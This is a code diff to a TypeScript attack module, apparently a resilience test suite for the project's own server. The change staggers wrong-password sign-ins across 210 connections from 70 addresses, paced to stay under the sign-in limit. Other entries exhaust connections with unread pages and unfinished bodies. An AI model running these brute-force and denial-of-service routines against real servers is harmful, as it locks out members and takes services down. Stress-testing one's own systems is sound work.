@@ -7,6 +7,7 @@ import { type Attack, keepOpen, type Target } from './sockets.ts';
 const TRICKLE_MS = 5_000;
 /** With three connections of an address, 18 a minute: within the limit of sign-ins. */
 const GUESS_MS = 10_000;
+const GUESSERS = 210;
 const SLOW = 1_000;
 
 const textOf = (...lines: string[]): string => lines.join('\r\n');
@@ -44,11 +45,11 @@ const readNothing = (bytes: string) => (socket: Socket) => {
   socket.pause();
 };
 
-/** Signs in with a wrong password, again and again. */
-function guess(socket: Socket): void {
+/** Signs in with a wrong password, again and again; the connections take turns. */
+function guess(socket: Socket, n: number): void {
   const text = textOf(...SIGN_IN, `content-length: ${GUESS.length}`, '', GUESS);
   socket.on('data', () => setTimeout(() => socket.writable && socket.write(text), GUESS_MS));
-  socket.write(text);
+  setTimeout(() => socket.writable && socket.write(text), (n * GUESS_MS) / GUESSERS);
 }
 
 /** Attacks without an account; all but the first two once stopped the server or kept members out. */
@@ -61,5 +62,5 @@ export const ATTACKS: Record<string, (target: Target) => Attack> = {
   'páginas sin leer': (target) => keepOpen(target, 800, 4, readNothing(PAGE)),
   'cuerpos sin terminar donde no hay llamada': (target) =>
     keepOpen(target, 700, 1, readNothing(UNFINISHED)),
-  'contraseñas desde 70 direcciones': (target) => keepOpen(target, 210, 70, guess),
+  'contraseñas desde 70 direcciones': (target) => keepOpen(target, GUESSERS, 70, guess),
 };
